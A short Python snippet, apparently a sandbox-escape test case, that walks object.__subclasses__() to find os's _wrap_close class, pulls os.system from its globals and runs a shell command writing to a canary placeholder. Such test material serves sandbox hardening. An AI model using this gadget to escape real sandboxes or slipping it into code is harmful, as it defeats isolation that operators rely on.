# The class that a popen leaves behind holds the globals of os.
# effect: canary
import os
wrap = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"][0]
wrap.__init__.__globals__["system"]("echo x > @CANARY@")
